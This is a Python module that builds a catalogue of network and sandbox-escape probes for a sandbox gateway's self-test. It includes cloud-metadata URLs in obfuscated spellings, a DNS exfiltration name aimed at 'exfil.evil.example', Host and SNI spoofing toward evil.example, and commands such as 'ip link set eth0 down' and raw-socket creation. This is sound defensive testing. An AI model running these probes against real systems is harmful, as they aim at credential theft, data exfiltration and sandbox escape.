"""The probe catalogue: what ``sandgate prove`` tries from inside a guest, and what to expect.

Every probe's expected verdict comes from ``decide()`` on the guest's own profile (never written
down here), except the probes of the sandbox itself (capabilities, host sockets), which must
always fail, and the placeholder credential sent to the wrong host, which is always refused.
Each probe also says how to find the gateway's record of it (``Match``), or why there can be
none (no packet can leave: IPv6 is off on the link, a capability is missing).

Pure: builds data, sends nothing.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field
from typing import Any

from sandgate.policy.classify import BLOCKS
from sandgate.policy.decide import Attempt, decide, decide_inbound, decide_name
from sandgate.policy.model import Protocol
from sandgate.policy.profile import Profile

# Test-world addresses (world/topology.py); the world is where probes may aim at "public" hosts.
ROUTER, MODEL, NAS = "10.77.0.1", "10.77.0.10", "10.77.0.20"
PUBLIC_IP, RESOLVER, PROBE_HOST = "198.51.100.10", "198.51.100.53", "198.51.100.123"
PYPI, EXAMPLE, EVIL = "203.0.113.20", "203.0.113.10", "203.0.113.40"
LONG_LABEL = "x" * 48


@dataclass(frozen=True)
class Match:
    """How to find the gateway's record of a probe in the session's events."""

    kinds: tuple[str, ...]  # "conn", "http", "dns"
    dst: str | None = None
    port: int | None = None
    name: str | None = None
    protocol: str | None = None
    by_sport: bool = False  # match the source port the driver reports


@dataclass(frozen=True)
class Probe:
    id: str
    group: str
    target: str
    action: str  # a driver action (prove/driver.py) or "root:<what>" (run as root in the guest)
    args: dict[str, Any]
    expected: str  # "allow" | "deny"
    why: str  # the reason key decide() gives, or what rule of the sandbox fixes it
    match: Match | None  # None: no packet can leave, nothing to log
    no_log_why: str = ""
    needs_world: bool = False
    upstream_silent: str | None = None  # a name the world's DNS server must never see

    def as_driver(self) -> dict[str, Any]:
        return {"id": self.id, "action": self.action, "args": self.args}


@dataclass
class Context:
    profile: Profile
    gateway: str
    proxy: str
    world: bool
    peer: str | None = None  # another guest's address (lateral)
    placeholder: str | None = None  # a secret's placeholder, if the profile has one
    host_addresses: list[str] = field(default_factory=list)
    nonce: str = ""  # makes names unique to one run (the upstream's log is checked for them)


def _expect(
    profile: Profile,
    proto: Protocol,
    address: str | None,
    port: int | None,
    name: str | None = None,
) -> tuple[str, str]:
    addr = ipaddress.ip_address(address) if address else None
    d = decide(profile, Attempt(proto, addr, port, name))
    return d.verdict.value, d.key


# Where the gateway's uplink has IPv6 (issue 14 part 5): the guest link's IPv6 has static
# neighbours only, so a packet to another on-link address never leaves the guest.
_NO_IPV6 = "IPv6 is off on the guest's link: no packet can leave"
_NO_ND = "no neighbour discovery on the guest's link: the packet never leaves the guest"
# The test world's IPv6 internet (world/topology.py, TestWorld(ipv6=True)).
WEB6, V6_ONLY = "2001:db8:203::10", "v6only.example.net"


def _ipv6_probes(p: Profile, add: Any) -> None:
    """IPv6 egress, judged like IPv4: the world's v6 web server by address and by an
    AAAA-only name, an address no name resolved to, ULA, and the forms carrying an IPv4."""
    add(
        "IPv6 web server by address",
        "ipv6",
        f"http://[{WEB6}]/",
        "http",
        {"url": f"http://[{WEB6}]/"},
        _expect(p, Protocol.TCP, WEB6, 80),
        Match(("http",), WEB6, 80),
        needs_world=True,
    )
    add(
        "IPv6-only name (AAAA)",
        "ipv6",
        f"http://{V6_ONLY}/",
        "http",
        {"url": f"http://{V6_ONLY}/"},
        _expect(p, Protocol.TCP, None, 80, V6_ONLY),
        Match(("http", "dns"), name=V6_ONLY),
        needs_world=True,
    )
    for pid, address, port in (
        ("IPv6 web server, a port nothing listens on", WEB6, 22),
        ("IPv6 unique local (ULA)", "fd00::10", 22),
        ("6to4 form of the NAS", "2002:a4d:14::1", 22),
    ):
        add(
            pid,
            "ipv6",
            f"[{address}]:{port}",
            "tcp",
            {"address": address, "port": port},
            _expect(p, Protocol.TCP, address, port),
            Match(("conn",), address, port, by_sport=True),
            needs_world=True,
        )


def catalogue(ctx: Context) -> list[Probe]:
    p = ctx.profile
    out: list[Probe] = []

    def add(
        pid: str,
        group: str,
        target: str,
        action: str,
        args: dict[str, Any],
        verdict: tuple[str, str],
        match: Match | None,
        **kw: Any,
    ) -> None:
        out.append(Probe(pid, group, target, action, args, verdict[0], verdict[1], match, **kw))

    def tcp(
        pid: str,
        group: str,
        address: str,
        port: int,
        *,
        world: bool = False,
        name: str | None = None,
    ) -> None:
        add(
            pid,
            group,
            f"{address}:{port}/tcp",
            "tcp",
            {"address": address, "port": port},
            _expect(p, Protocol.TCP, address, port, name),
            Match(("conn", "http"), address, port, by_sport=True),
            needs_world=world,
        )

    # -- every IPv4 special-purpose block: one address each (port 9: no proxy in the way) --------
    seen: set[str] = set()
    for blk in BLOCKS:
        net = blk.network
        if net.version != 4 or str(net) in seen:
            continue
        seen.add(str(net))
        sample = str(net.network_address if net.num_addresses <= 2 else net.network_address + 1)
        if ipaddress.ip_address(sample) in p.guest_pool:
            continue
        if any(net.subnet_of(o) for o in p.public_override if o.version == 4):
            continue  # the test world's "internet": probed as such below
        ip = ipaddress.ip_address(sample)
        if ip.is_loopback or sample == "0.0.0.0":
            continue  # the guest's own loopback: reachable by design, and it never leaves the guest
        if ip.is_multicast or sample == "255.255.255.255":
            # The kernel refuses TCP to a group or broadcast address itself: nothing to log.
            add(
                f"block {net}",
                "special ranges",
                f"{sample}:9/tcp",
                "tcp",
                {"address": sample, "port": 9},
                _expect(p, Protocol.TCP, sample, 9),
                None,
                no_log_why="TCP to a multicast or broadcast address never leaves the guest",
            )
            continue
        tcp(f"block {net}", "special ranges", sample, 9)

    # -- cloud metadata ---------------------------------------------------------------------------
    for spelling in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"):
        add(
            f"metadata http://{spelling}/",
            "metadata",
            f"http://{spelling}/",
            "http",
            {"url": f"http://{spelling}/latest/meta-data/"},
            _expect(p, Protocol.TCP, "169.254.169.254", 80),
            Match(("http", "conn"), "169.254.169.254", 80),
        )
    add(
        "metadata by name",
        "metadata",
        "metadata.example",
        "dns",
        {"name": "metadata.example"},
        _expect(p, Protocol.TCP, "169.254.169.254", None, "metadata.example"),
        Match(("dns",), name="metadata.example"),
        needs_world=True,
    )
    add(
        "metadata IPv6 fd00:ec2::254",
        "metadata",
        "[fd00:ec2::254]:80",
        # With IPv6 on the link, port 80 goes to the proxy (as IPv4's does), which refuses it.
        "http" if p.uplink_ipv6 else "tcp",
        {"url": "http://[fd00:ec2::254]/"}
        if p.uplink_ipv6
        else {"address": "fd00:ec2::254", "port": 80},
        _expect(p, Protocol.TCP, "fd00:ec2::254", 80),
        Match(("http",), "fd00:ec2::254", 80) if p.uplink_ipv6 else None,
        no_log_why="" if p.uplink_ipv6 else _NO_IPV6,
    )

    # -- the LAN: model server, NAS, host --------------------------------------------------------
    # (test-world probes are always listed; without the test world, prove skips them)
    add(
        "model server API",
        "lan",
        f"http://{MODEL}:8000/v1/models",
        "http",
        {"url": f"http://{MODEL}:8000/v1/models"},
        _expect(p, Protocol.TCP, MODEL, 8000),
        Match(("conn", "http"), MODEL, 8000),
        needs_world=True,
    )
    for port in (22, 11434):
        tcp(f"model server port {port}", "lan", MODEL, port, world=True)
    for port in (22, 445, 2049):
        tcp(f"NAS {port}/tcp", "lan", NAS, port, world=True)
    add(
        "NAS 2049/udp",
        "lan",
        f"{NAS}:2049/udp",
        "udp",
        {"address": NAS, "port": 2049},
        _expect(p, Protocol.UDP, NAS, 2049),
        Match(("conn",), NAS, 2049, by_sport=True),
        needs_world=True,
    )
    tcp("host (LAN router) ssh", "host", ROUTER, 22, world=True)
    for address in ctx.host_addresses:
        tcp(f"host {address} ssh", "host", address, 22)

    # -- the gateway itself, other guests, IPv6, L2 ------------------------------------------------
    tcp("gateway ssh", "gateway", ctx.gateway, 22)
    tcp("gateway other port", "gateway", ctx.gateway, 8080)
    # The host's own loopback: exactly the ports host_loopback rules name (relayed by the
    # gateway), and not the port next to each.
    relayed = {r.spec.host_loopback for r in p.host_loopback()}
    for rule in p.host_loopback():
        lo = rule.spec.host_loopback or 0
        tcp(f"host loopback {lo} ({rule.label})", "host", ctx.gateway, lo)
        if lo + 1 not in relayed and lo < 65535:
            tcp(f"host loopback, another port ({lo + 1})", "host", ctx.gateway, lo + 1)
    add(
        "gateway control socket",
        "gateway",
        "/run/sandgate/*/control",
        "local",
        {"command": "ls /run/sandgate/*/control/control.sock"},
        ("deny", "sandbox: not visible"),
        None,
        no_log_why="a file, not a packet",
    )
    if ctx.peer:
        tcp("another guest (lateral)", "lateral", ctx.peer, 8080)
    add(
        "IPv6 link-local to the gateway",
        "ipv6",
        "[fe80::1%eth0]:22",
        "tcp",
        {"address": "fe80::1%eth0", "port": 22},
        _expect(p, Protocol.TCP, "fe80::1", 22) if p.uplink_ipv6 else ("deny", "deny.ipv6"),
        None,
        no_log_why=_NO_ND if p.uplink_ipv6 else _NO_IPV6,
    )
    add(
        "IPv6 to the all-nodes group",
        "ipv6",
        "ff02::1%eth0",
        "local",
        {"command": "ping -6 -c 1 -W 1 ff02::1%eth0"},
        _expect(p, Protocol.ICMP, "ff02::1", None) if p.uplink_ipv6 else ("deny", "deny.ipv6"),
        None,
        no_log_why=_NO_ND if p.uplink_ipv6 else _NO_IPV6,
    )
    if p.uplink_ipv6:
        _ipv6_probes(p, add)
    for claim in [MODEL, ctx.gateway]:
        add(
            f"ARP claim {claim}",
            "l2",
            f"claim {claim}",
            "local",
            {"command": f"ip addr add {claim}/32 dev eth0"},
            ("deny", "sandbox: no CAP_NET_ADMIN"),
            None,
            no_log_why="the sandbox may not change its address",
        )
    add(
        "spoofed source address",
        "l2",
        "raw socket",
        "local",
        {
            "command": "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, "
            "socket.IPPROTO_RAW)'"
        },
        ("deny", "sandbox: no CAP_NET_RAW"),
        None,
        no_log_why="no raw socket: no spoofed packet",
    )

    # -- DNS around the gateway ------------------------------------------------------------------
    # (test-world probes are always listed; without the test world, prove skips them)
    for tcp_dns in (False, True):
        add(
            f"DNS to an outside server ({'tcp' if tcp_dns else 'udp'})",
            "dns",
            f"{RESOLVER}:53/{'tcp' if tcp_dns else 'udp'}",
            "dns",
            {
                "server": RESOLVER,
                "reverse": "10.0.0.1",
                "tcp": tcp_dns,
                "expect": "gateway-answers",
            },
            _expect(p, Protocol.UDP, RESOLVER, 53),
            Match(("conn",), RESOLVER, 53),
            needs_world=True,
        )
    tcp("DNS over TLS (853)", "dns", RESOLVER, 853, world=True)
    add(
        "DNS over HTTPS to a resolver IP",
        "dns",
        f"https://{RESOLVER}/dns-query",
        "http",
        {
            "url": f"https://{RESOLVER}/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE",
            "insecure": True,
        },
        _expect(p, Protocol.TCP, RESOLVER, 443),
        Match(("http", "conn"), RESOLVER, 443),
        needs_world=True,
    )
    add(
        "rebinding name",
        "dns",
        "rebind.example",
        "dns",
        {"name": "rebind.example"},
        _expect(p, Protocol.TCP, NAS, None, "rebind.example"),
        Match(("dns",), name="rebind.example"),
        needs_world=True,
    )
    exfil = f"{LONG_LABEL}{ctx.nonce}.exfil.evil.example"
    d = decide_name(p, exfil)
    add(
        "long-label DNS exfiltration",
        "dns",
        exfil[:24] + "…",
        "dns",
        {"name": exfil},
        (d.verdict.value, d.key),
        Match(("dns",), name=exfil),
        needs_world=True,
        upstream_silent=exfil if not d.allowed else None,
    )

    # -- the public side -------------------------------------------------------------------------
    # (test-world probes are always listed; without the test world, prove skips them)
    add(
        "hardcoded public IP (http)",
        "internet",
        f"http://{PUBLIC_IP}/",
        "http",
        {"url": f"http://{PUBLIC_IP}/status/200"},
        _expect(p, Protocol.TCP, PUBLIC_IP, 80),
        Match(("http", "conn"), PUBLIC_IP, 80),
        needs_world=True,
    )
    add(
        "ICMP echo to a public IP",
        "internet",
        PUBLIC_IP,
        "icmp",
        {"address": PUBLIC_IP},
        _expect(p, Protocol.ICMP, PUBLIC_IP, None),
        Match(("conn",), PUBLIC_IP, protocol="icmp"),
        needs_world=True,
    )
    add(
        "NTP",
        "internet",
        f"{PROBE_HOST}:123/udp",
        "udp",
        {"address": PROBE_HOST, "port": 123},
        _expect(p, Protocol.UDP, PROBE_HOST, 123),
        Match(("conn",), PROBE_HOST, 123, by_sport=True),
        needs_world=True,
    )
    add(
        "QUIC (udp/443)",
        "internet",
        f"{PROBE_HOST}:443/udp",
        "udp",
        {"address": PROBE_HOST, "port": 443},
        _expect(p, Protocol.UDP, PROBE_HOST, 443),
        Match(("conn",), PROBE_HOST, 443, by_sport=True),
        needs_world=True,
    )
    for form, mapped in (("IPv4-mapped", f"::ffff:{NAS}"),):
        add(
            f"{form} form of the NAS",
            "special ranges",
            f"[{mapped}]:22",
            "tcp",
            {"address": mapped, "port": 22},
            _expect(p, Protocol.TCP, mapped, 22),
            Match(("conn",), NAS, 22, by_sport=True),
            needs_world=True,
        )
    add(
        "NAT64 form of the NAS",
        "special ranges",
        "[64:ff9b::a4d:14]:22",
        "tcp",
        {"address": "64:ff9b::a4d:14", "port": 22},
        _expect(p, Protocol.TCP, "64:ff9b::a4d:14", 22),
        Match(("conn",), "64:ff9b::a4d:14", 22, by_sport=True) if p.uplink_ipv6 else None,
        no_log_why="" if p.uplink_ipv6 else _NO_IPV6,
        needs_world=True,
    )

    # -- names in connections: SNI, Host, CONNECT, proxy variables ---------------------------
    add(
        "TLS to pypi.org's address naming evil.example (SNI)",
        "proxy",
        f"{PYPI}:443 SNI evil.example",
        "tls",
        {"address": PYPI, "port": 443, "sni": "evil.example"},
        _expect(p, Protocol.TCP, PYPI, 443, "evil.example"),
        Match(("http", "conn"), PYPI, 443, by_sport=True),
        needs_world=True,
    )
    add(
        "HTTP to pypi.org's address with Host evil.example",
        "proxy",
        f"{PYPI}:80 Host evil.example",
        "http",
        {"url": f"http://{PYPI}/", "headers": ["Host: evil.example"]},
        _expect(p, Protocol.TCP, EVIL, 80, "evil.example"),
        Match(("http",), name="evil.example"),
        needs_world=True,
    )
    add(
        "CONNECT to the NAS through the proxy",
        "proxy",
        f"CONNECT {NAS}:22",
        "connect",
        {"proxy": ctx.proxy, "target": f"{NAS}:22"},
        _expect(p, Protocol.TCP, NAS, 22),
        Match(("http",), name=NAS, port=22),
        needs_world=True,
    )
    add(
        "CONNECT to a rebinding name",
        "proxy",
        "CONNECT rebind.example:443",
        "connect",
        {"proxy": ctx.proxy, "target": "rebind.example:443"},
        _expect(p, Protocol.TCP, NAS, 443, "rebind.example"),
        Match(("http",), name="rebind.example", port=443),
        needs_world=True,
    )
    add(
        "proxy variables unset (evil.example)",
        "proxy",
        "http://evil.example/",
        "http",
        {"url": "http://evil.example/", "noenv": True},
        _expect(p, Protocol.TCP, EVIL, 80, "evil.example"),
        Match(("http", "dns"), name="evil.example"),
        needs_world=True,
    )
    add(
        "--noproxy to pypi.org",
        "proxy",
        "https://pypi.org/ --noproxy",
        "http",
        {"url": "https://pypi.org/simple/"},
        _expect(p, Protocol.TCP, PYPI, 443, "pypi.org"),
        Match(("http", "conn"), PYPI, 443),
        needs_world=True,
    )
    if ctx.placeholder:
        # To the model server, which every mode lets through: only the placeholder check
        # can stop this request.
        add(
            "placeholder credential to another host",
            "credentials",
            f"http://{MODEL}:8000/v1/models",
            "http",
            {
                "url": f"http://{MODEL}:8000/v1/models",
                "proxy": ctx.proxy,
                "headers": [f"Authorization: Bearer {ctx.placeholder}"],
            },
            ("deny", "deny.exfiltration"),
            Match(("http",), name=MODEL),
            needs_world=True,
        )

    # -- the sandbox itself ----------------------------------------------------------------------
    for pid, command in (
        ("nft from inside", "nft list ruleset"),
        ("ip link from inside", "ip link set eth0 down"),
        ("ip route from inside", "ip route add 10.0.0.0/8 dev eth0"),
        (
            "raw socket",
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'",
        ),
        ("new network namespace", "unshare -n true"),
        ("setuid root (sudo)", "sudo -n true"),
    ):
        add(
            pid,
            "sandbox",
            command.split()[0],
            "local",
            {"command": command},
            ("deny", "sandbox: no capability"),
            None,
            no_log_why="refused by the kernel inside",
        )
    add(
        "host unix sockets",
        "sandbox",
        "/run /tmp /home ...",
        "unix_sockets",
        {},
        ("deny", "sandbox: none bound"),
        None,
        no_log_why="a file, not a packet",
    )
    return out


def inbound_catalogue(profile: Profile, uplink: str, clients: dict[str, str]) -> list[Probe]:
    """Probes from the LAN side (run in the test world's LAN hosts, ``clients``: role →
    address): each exposed port of ``profile`` from each client, to the gateway's uplink
    address. Expected verdicts from ``decide_inbound()``. A reset from the guest (nothing
    listens) counts as reached: the gateway's own refusal is ICMP, as everywhere."""
    out: list[Probe] = []
    for rule in profile.expose:
        for role, address in sorted(clients.items()):
            d = decide_inbound(profile, ipaddress.ip_address(address), Protocol.TCP, rule.port)
            out.append(
                Probe(
                    f"expose {rule.port} from {role} {address}",
                    "inbound",
                    f"{uplink}:{rule.port}/tcp",
                    "tcp",
                    {"address": uplink, "port": rule.port, "from": role},
                    d.verdict.value,
                    d.key,
                    Match(("conn",), None, rule.port, by_sport=True),
                    needs_world=True,
                )
            )
    return out
